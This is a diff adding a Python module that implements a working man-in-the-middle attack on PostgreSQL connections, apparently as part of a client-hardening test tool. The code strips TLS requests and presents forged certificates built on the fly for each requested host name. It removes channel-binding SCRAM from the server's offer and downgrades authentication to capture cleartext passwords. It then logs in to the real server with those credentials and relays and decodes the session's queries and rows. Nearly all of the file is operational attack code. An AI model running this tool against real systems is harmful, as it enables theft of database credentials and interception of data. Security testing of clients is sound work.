@@ -1,0 +1,564 @@
+"""``pgbatten mitm``: an active man in the middle between a client and its server, for a test environment.
+
+Each connection is attacked one way (:class:`Attack`) and judged by what the client then did on the wire:
+whether it went on through the attack and sent its startup (user, database) and its credentials, what the
+man in the middle captured, and whether he could still log in to the real server with them and relay the
+session (SCRAM without channel binding relays; with channel binding the server sees the forged
+certificate's hash and refuses; a client certificate cannot be presented by someone who lacks its key).
+
+After the attack the man in the middle is a relay that decodes both legs in plaintext: the SQL the client
+sends and the rows it gets back are his. Nothing captured is written to disk.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import ipaddress
+import socket
+import ssl
+import struct
+import tempfile
+import threading
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Protocol
+
+from cryptography import x509
+
+from pgbatten.attack import auth
+from pgbatten.attack.decode import BackendStream, FrontendStream
+from pgbatten.attack.events import Direction, WireEvent
+from pgbatten.attack.forge import Attack, Forgery, forge
+from pgbatten.attack.relay import TcpService, close_quietly, pump, wait_until_stopped
+from pgbatten.certfacts import host_names
+from pgbatten.errors import ProbeError
+from pgbatten.pki import CertificateAuthority
+from pgbatten.probe.tls import PG_ALPN
+from pgbatten.probe.wire import (
+    CANCEL_REQUEST_CODE,
+    GSSENC_REQUEST_CODE,
+    SSL_REQUEST,
+    SSL_REQUEST_CODE,
+    Target,
+)
+
+
+class Verdict:
+    """What the attack achieved on one connection, from the client's behaviour."""
+
+    REFUSED = "refused"
+    """The client stopped before sending its startup (or its password, when asked in cleartext)."""
+    FOOLED = "fooled"
+    """It went on through the attack and sent its startup and credentials, but the man in the middle
+    could not log in to the real server with them: he has who, where, and what can be guessed from."""
+    READ = "read"
+    """Fooled, and the session was relayed: the man in the middle read (and could change) its queries."""
+
+
+@dataclass
+class MitmConnection:
+    """One attacked connection: what the client did, what was captured, how the upstream login went."""
+
+    conn_id: int
+    peer: tuple[str, int]
+    attack: Attack
+    started: float = field(default_factory=time.time)
+    asked: str = "nothing"
+    """How the client started: ``SSLRequest``, ``direct TLS``, ``plaintext`` (a startup without asking for
+    encryption), ``CancelRequest``, or ``nothing``."""
+    client_tls: str | None = None
+    """The TLS session the client accepted from the man in the middle (version and suite)."""
+    stripped: bool = False
+    """The client asked for TLS and was told 'N'."""
+    refusal: str | None = None
+    """Why the client stopped, as seen on the wire, when it did."""
+    startup: dict[str, str] = field(default_factory=dict)
+    credentials: list[str] = field(default_factory=list)
+    password: str | None = None
+    """A cleartext password the client sent, kept in memory only."""
+    upstream_tls: str | None = None
+    upstream_login: str | None = None
+    """``ok``, ``failed: REASON``, or None when it was never tried."""
+    queries: list[str] = field(default_factory=list)
+    rows: int = 0
+    ready: bool = False
+    """The client got ReadyForQuery through the man in the middle: its session runs through him."""
+    cancel: dict[str, str] | None = None
+    error: str | None = None
+    events: list[WireEvent] = field(default_factory=list)
+
+    @property
+    def verdict(self) -> str:
+        if self.upstream_login == "ok" and self.ready:
+            return Verdict.READ
+        if self.startup and self.refusal is None and self.error is None:
+            return Verdict.FOOLED
+        return Verdict.REFUSED
+
+    def to_json(self) -> dict[str, object]:
+        return {
+            "conn": self.conn_id,
+            "peer": f"{self.peer[0]}:{self.peer[1]}",
+            "attack": str(self.attack),
+            "verdict": self.verdict,
+            "asked": self.asked,
+            "client_tls": self.client_tls,
+            "stripped": self.stripped,
+            "refusal": self.refusal,
+            "user": self.startup.get("user"),
+            "database": self.startup.get("database"),
+            "application_name": self.startup.get("application_name"),
+            "credentials": self.credentials,
+            "password": self.password,
+            "upstream_tls": self.upstream_tls,
+            "upstream_login": self.upstream_login,
+            "queries": self.queries,
+            "rows": self.rows,
+            "session_relayed": self.ready,
+            "cancel": self.cancel,
+            "error": self.error,
+        }
+
+
+class MitmSink(Protocol):
+    """Where the man in the middle reports; called from connection threads, one call at a time."""
+
+    def opened(self, conn: MitmConnection) -> None: ...
+
+    def step(self, conn: MitmConnection, text: str) -> None: ...
+
+    def event(self, conn: MitmConnection, event: WireEvent) -> None: ...
+
+    def closed(self, conn: MitmConnection) -> None: ...
+
+
+class QuietSink:
+    """A sink that keeps nothing: for callers that read :attr:`Mitm.connections` afterwards."""
+
+    def opened(self, conn: MitmConnection) -> None:
+        pass
+
+    def step(self, conn: MitmConnection, text: str) -> None:
+        pass
+
+    def event(self, conn: MitmConnection, event: WireEvent) -> None:
+        pass
+
+    def closed(self, conn: MitmConnection) -> None:
+        pass
+
+
+@dataclass(frozen=True)
+class MitmOptions:
+    listen: Target
+    upstream: Target
+    attack: Attack
+    ca: CertificateAuthority | None = None
+    """The CA the client trusts, when its key is at hand (``same-ca-wrong-host`` needs it)."""
+    names: tuple[str, ...] = ()
+    """The names to forge a certificate for; default: the upstream certificate's, else the upstream host."""
+    timeout: float = 10.0
+    """Seconds to wait for a client's next step during the attack, or to reach the server."""
+    duration: float | None = None
+
+
+def _is_ip(host: str) -> bool:
+    try:
+        ipaddress.ip_address(host)
+    except ValueError:
+        return False
+    return True
+
+
+def fetch_certificate(upstream: Target, timeout: float) -> x509.Certificate | None:
+    """The certificate the real server presents (what an attacker copies the names from), or None."""
+    try:
+        with socket.create_connection((upstream.host, upstream.port), timeout=timeout) as sock:
+            sock.sendall(SSL_REQUEST)
+            if auth.recv_exact(sock, 1) != b"S":
+                return None
+            ctx = _client_context()
+            hostname = None if _is_ip(upstream.host) else upstream.host
+            with ctx.wrap_socket(sock, server_hostname=hostname) as tls:
+                der = tls.getpeercert(binary_form=True)
+    except (OSError, ssl.SSLError, auth.PeerClosed):
+        return None
+    return x509.load_der_x509_certificate(der) if der else None
+
+
+def _client_context() -> ssl.SSLContext:
+    # The attacker checks nothing on his way to the real server.
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+
+
+def _describe_tls_failure(exc: BaseException) -> str:
+    reason = getattr(exc, "reason", None) or ""
+    if isinstance(reason, str) and "ALERT_" in reason:
+        alert = reason.split("ALERT_", 1)[1].lower()
+        return f"the client aborted the handshake with alert {alert}"
+    if isinstance(exc, ssl.SSLEOFError | ConnectionResetError | BrokenPipeError | TimeoutError):
+        return "the client closed the connection during the handshake"
+    return f"the handshake failed: {reason or exc}"
+
+
+class Mitm(TcpService):
+    """The man in the middle: one attack, any number of connections."""
+
+    thread_prefix = "mitm"
+
+    def __init__(self, options: MitmOptions, sink: MitmSink | None = None) -> None:
+        super().__init__(
+            listen_host=options.listen.host, listen_port=options.listen.port, max_connections=None
+        )
+        self.options = options
+        self.sink: MitmSink = sink or QuietSink()
+        self.connections: list[MitmConnection] = []
+        self._sink_lock = threading.Lock()
+        self._contexts: dict[str, ssl.SSLContext] = {}
+        self.names = options.names or self._upstream_names()
+        self.forgery = forge(options.attack, self.names, ca=options.ca)
+        self._context = self._server_context(self.forgery) if self.forgery is not None else None
+
+    # -- set-up -----------------------------------------------------------------------------------------
+
+    def _upstream_names(self) -> tuple[str, ...]:
+        cert = fetch_certificate(self.options.upstream, self.options.timeout)
+        names = list(host_names(cert)) if cert is not None else []
+        if self.options.upstream.host not in names:
+            names.append(self.options.upstream.host)
+        return tuple(names)
+
+    def _server_context(self, forgery: Forgery) -> ssl.SSLContext:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        # ssl loads certificates from files only: a private temp dir that is gone as soon as they are read.
+        with tempfile.TemporaryDirectory(prefix="pgbatten-mitm-") as tmp:
+            cert, key = Path(tmp) / "cert.pem", Path(tmp) / "key.pem"
+            cert.write_bytes(forgery.cert_pem())
+            key.touch(mode=0o600)
+            key.write_bytes(forgery.key_pem())
+            ctx.load_cert_chain(cert, key)
+        ctx.set_alpn_protocols([PG_ALPN])
+        if forgery.follows_names:
+            ctx.sni_callback = self._by_server_name
+        return ctx
+
+    def _by_server_name(self, sock: ssl.SSLObject, name: str | None, _ctx: ssl.SSLContext) -> None:
+        # A client that asks for a name the forgery lacks gets one made for that name on the spot.
+        if not name or name in self.names:
+            return
+        with self._sink_lock:
+            ctx = self._contexts.get(name)
+            if ctx is None:
+                forgery = forge(self.options.attack, (name, *self.names), ca=self.options.ca)
+                assert forgery is not None
+                ctx = self._contexts[name] = self._server_context(forgery)
+        sock.context = ctx
+
+    # -- reporting ------------------------------------------------------------------------------------
+
+    def _step(self, conn: MitmConnection, text: str) -> None:
+        with self._sink_lock:
+            self.sink.step(conn, text)
+
+    def _events(self, conn: MitmConnection, events: list[WireEvent]) -> None:
+        for event in events:
+            conn.events.append(event)
+            self._observe(conn, event)
+            with self._sink_lock:
+                self.sink.event(conn, event)
+
+    @staticmethod
+    def _observe(conn: MitmConnection, event: WireEvent) -> None:
+        kind = event.kind
+        if kind == "PasswordMessage":
+            conn.credentials.append(
+                f"md5 hash {event.get('hash')}" if event.get("method") == "md5" else "cleartext password"
+            )
+        elif kind == "SASLInitialResponse":
+            conn.credentials.append(f"{event.get('mechanism')} exchange")
+        elif kind == "SASLResponse" and "p=" in (event.get("data") or ""):
+            conn.credentials.append("SCRAM client proof (offline guessing)")
+        elif kind in ("Query", "Parse") and event.get("query"):
+            conn.queries.append(event.get("query") or "")
+        elif kind == "DataRow":
+            conn.rows += 1
+        elif kind == "AuthenticationOk" and conn.upstream_login is None:
+            conn.upstream_login = "ok"
+        elif kind == "ErrorResponse" and conn.upstream_login is None:
+            conn.upstream_login = f"failed: {event.summary}"
+        elif kind == "ReadyForQuery" and conn.upstream_login == "ok":
+            conn.ready = True
+
+    # -- one connection ------------------------------------------------------------------------------
+
+    def handle(self, conn_id: int, client: socket.socket, peer: tuple[str, int]) -> None:
+        conn = MitmConnection(conn_id, peer, self.options.attack)
+        with self._sink_lock:
+            self.connections.append(conn)
+            self.sink.opened(conn)
+        client.settimeout(self.options.timeout)
+        try:
+            self._attack(conn, client)
+        except auth.PeerClosed as exc:
+            if conn.refusal is None and conn.upstream_login is None:
+                conn.refusal = f"the client closed the connection {self._stage(conn)} ({exc})"
+        except ProbeError as exc:
+            conn.error = exc.reason or str(exc)
+        except (OSError, ssl.SSLError) as exc:
+            conn.error = f"{type(exc).__name__}: {exc}"
+        finally:
+            with self._sink_lock:
+                self.sink.closed(conn)
+
+    @staticmethod
+    def _stage(conn: MitmConnection) -> str:
+        if conn.startup:
+            return "instead of sending its password"
+        if conn.client_tls:
+            return "after the TLS handshake, without sending its startup"
+        if conn.asked == "SSLRequest":
+            return "instead of going on without TLS"
+        return "before sending anything"
+
+    def _attack(self, conn: MitmConnection, client: socket.socket) -> None:
+        attack = self.options.attack
+        stream: socket.socket = client
+        front = FrontendStream()
+        while True:
+            if stream is client:
+                first = client.recv(1, socket.MSG_PEEK)
+                if not first:
+                    raise auth.PeerClosed("closed")
+                if first[0] == 0x16:
+                    conn.asked = "direct TLS"
+                    if attack == Attack.STRIP:
+                        conn.refusal = "the client started TLS directly: there is no SSLRequest to strip"
+                        return
+                    tls = self._accept_tls(conn, client)
+                    if tls is None:
+                        return
+                    stream = tls
+                    continue
+            packet = auth.read_packet(stream)
+            code = struct.unpack("!i", packet[4:8])[0]
+            if code in (SSL_REQUEST_CODE, GSSENC_REQUEST_CODE):
+                self._events(conn, front.feed(packet))
+                if code == GSSENC_REQUEST_CODE or attack == Attack.STRIP:
+                    stream.sendall(b"N")
+                    if code == SSL_REQUEST_CODE:
+                        conn.asked = "SSLRequest"
+                        conn.stripped = True
+                        self._step(conn, "client asked for TLS; answered 'N'")
+                    continue
+                conn.asked = "SSLRequest"
+                stream.sendall(b"S")
+                tls = self._accept_tls(conn, client)
+                if tls is None:
+                    return
+                stream = tls
+                front = FrontendStream()  # the encrypted leg starts afresh: what follows is the startup
+                continue
+            if code == CANCEL_REQUEST_CODE:
+                conn.asked = "CancelRequest"
+                self._events(conn, front.feed(packet))
+                self._relay_cancel(conn, packet)
+                return
+            if conn.asked == "nothing":
+                conn.asked = "plaintext"
+            break
+        self._events(conn, front.feed(packet))
+        conn.startup = auth.startup_params(packet)
+        if not conn.startup:
+            conn.error = "the client sent a startup packet of an unknown protocol"
+            return
+        self._step(conn, f"client sent its startup: user {conn.startup.get('user')!r}")
+        back = BackendStream(0)
+        if attack == Attack.DOWNGRADE_AUTH:
+            upstream = self._downgrade(conn, stream, packet, front, back)
+        else:
+            upstream = self._connect_upstream(conn)
+            upstream.sendall(packet)
+            if not self._relay_login(conn, stream, upstream, front, back):
+                close_quietly(upstream)
+                return
+        if upstream is None:
+            return
+        try:
+
+            def seen(direction: Direction, chunk: bytes) -> None:
+                decoder = front if direction == Direction.FRONTEND else back
+                self._events(conn, decoder.feed(chunk))
+
+            pump(stream, upstream, seen, stop=self._stop, idle_timeout=None, half_close=False)
+        finally:
+            close_quietly(upstream)
+            if stream is not client:
+                close_quietly(stream)
+        if conn.upstream_login is None and conn.refusal is None:
+            conn.refusal = f"the client closed the connection {self._stage(conn)}"
+
+    def _relay_login(
+        self,
+        conn: MitmConnection,
+        stream: socket.socket,
+        upstream: socket.socket,
+        front: FrontendStream,
+        back: BackendStream,
+    ) -> bool:
+        """Pass the login on message by message; True once the server said AuthenticationOk.
+
+        A client on a plaintext leg (stripped, or never asked for TLS) is not offered channel binding:
+        libpq refuses SCRAM-SHA-256-PLUS without TLS, and the server, itself on TLS with the man in the
+        middle, accepts a client that says it does not support binding.
+        """
+        while True:
+            mtype, body = auth.read_message(upstream)
+            code = struct.unpack("!i", body[:4])[0] if mtype == "R" and len(body) >= 4 else None
+            if code == 10 and not isinstance(stream, ssl.SSLSocket):
+                offered = [m for m in body[4:].split(b"\0") if m]
+                kept = [m for m in offered if not m.endswith(b"-PLUS")]
+                if kept and kept != offered:
+                    body = body[:4] + b"".join(m + b"\0" for m in kept) + b"\0"
+                    self._step(
+                        conn,
+                        "removed SCRAM-SHA-256-PLUS from the server's offer (no TLS on the client's leg)",
+                    )
+            raw = auth.message(mtype, body)
+            self._events(conn, back.feed(raw))
+            stream.sendall(raw)
+            if mtype == "E":
+                return False
+            if mtype != "R" or code == 0:
+                return mtype == "R"
+            if code == 12:
+                continue  # SASLFinal: AuthenticationOk follows
+            try:
+                cmtype, cbody = auth.read_message(stream)
+            except auth.PeerClosed as exc:
+                conn.refusal = (
+                    f"the client closed the connection instead of answering {self._asked_for(code)} ({exc})"
+                )
+                return False
+            raw = auth.message(cmtype, cbody)
+            self._events(conn, front.feed(raw))
+            upstream.sendall(raw)
+
+    @staticmethod
+    def _asked_for(code: int | None) -> str:
+        return {
+            3: "the cleartext password request",
+            5: "the md5 password request",
+            10: "the SASL request",
+            11: "the SCRAM challenge",
+        }.get(code or -1, f"authentication request {code}")
+
+    def _accept_tls(self, conn: MitmConnection, client: socket.socket) -> ssl.SSLSocket | None:
+        assert self._context is not None
+        try:
+            tls = self._context.wrap_socket(client, server_side=True)
+        except (ssl.SSLError, OSError) as exc:
+            conn.refusal = _describe_tls_failure(exc)
+            self._step(conn, f"client refused the forged certificate: {conn.refusal}")
+            return None
+        cipher = tls.cipher()
+        conn.client_tls = f"{tls.version()} {cipher[0] if cipher else ''}".strip()
+        self._step(conn, f"client accepted the forged certificate ({conn.client_tls})")
+        return tls
+
+    def _connect_upstream(self, conn: MitmConnection) -> socket.socket:
+        upstream = self.options.upstream
+        try:
+            sock = socket.create_connection((upstream.host, upstream.port), timeout=self.options.timeout)
+        except OSError as exc:
+            raise ProbeError(
+                upstream.host, upstream.port, f"cannot reach the server: {exc.strerror or exc}"
+            ) from exc
+        try:
+            sock.sendall(SSL_REQUEST)
+            answer = auth.recv_exact(sock, 1)
+            if answer == b"S":
+                hostname = None if _is_ip(upstream.host) else upstream.host
+                tls = _client_context().wrap_socket(sock, server_hostname=hostname)
+                conn.upstream_tls = tls.version()
+                return tls
+            if answer != b"N":
+                raise ProbeError(upstream.host, upstream.port, f"unexpected answer {answer!r} to SSLRequest")
+            return sock
+        except BaseException:
+            close_quietly(sock)
+            raise
+
+    def _downgrade(
+        self,
+        conn: MitmConnection,
+        stream: socket.socket,
+        startup: bytes,
+        front: FrontendStream,
+        back: BackendStream,
+    ) -> socket.socket | None:
+        request = auth.CLEARTEXT_REQUEST
+        self._events(conn, back.feed(request))
+        stream.sendall(request)
+        self._step(conn, "asked the client for its password in cleartext")
+        try:
+            mtype, body = auth.read_message(stream)
+        except auth.PeerClosed as exc:
+            conn.refusal = f"the client refused to send its password in cleartext ({exc})"
+            return None
+        self._events(conn, front.feed(auth.message(mtype, body)))
+        if mtype != "p":
+            conn.refusal = f"the client answered the password request with message {mtype!r}"
+            return None
+        conn.password = body.rstrip(b"\0").decode("utf-8", errors="replace")
+        upstream = self._connect_upstream(conn)
+        try:
+            auth.login(upstream, startup, conn.startup.get("user", ""), conn.password)
+        except (ProbeError, auth.PeerClosed) as exc:
+            reason = exc.reason if isinstance(exc, ProbeError) else str(exc)
+            conn.upstream_login = f"failed: {reason}"
+            failure = auth.error_response(reason, "28P01")
+            self._events(conn, back.feed(failure))
+            with contextlib.suppress(OSError):
+                stream.sendall(failure)
+            close_quietly(upstream)
+            return None
+        conn.upstream_login = "ok"
+        self._step(conn, "logged in to the server with the client's password")
+        ok = auth.auth_request(0)
+        self._events(conn, back.feed(ok))
+        stream.sendall(ok)
+        return upstream
+
+    def _relay_cancel(self, conn: MitmConnection, packet: bytes) -> None:
+        (pid,) = struct.unpack("!i", packet[8:12])
+        conn.cancel = {"pid": str(pid), "key": packet[12:].hex()}
+        upstream = self.options.upstream
+        try:
+            with socket.create_connection((upstream.host, upstream.port), timeout=self.options.timeout) as s:
+                s.sendall(packet)
+        except OSError as exc:
+            conn.error = f"could not pass the CancelRequest on: {exc}"
+        else:
+            self._step(conn, f"passed a CancelRequest for backend {pid} on")
+
+
+def run_mitm(
+    options: MitmOptions,
+    sink: MitmSink,
+    *,
+    stop: threading.Event | None = None,
+    on_listening: Callable[[Mitm], None] | None = None,
+) -> list[MitmConnection]:
+    """Attack every connection until ``stop``, ``duration`` or Ctrl-C; every connection, in accept order."""
+    stop = stop or threading.Event()
+    mitm = Mitm(options, sink)
+    with mitm:
+        if on_listening is not None:
+            on_listening(mitm)
+        wait_until_stopped(stop, duration=options.duration)
+    return list(mitm.connections)
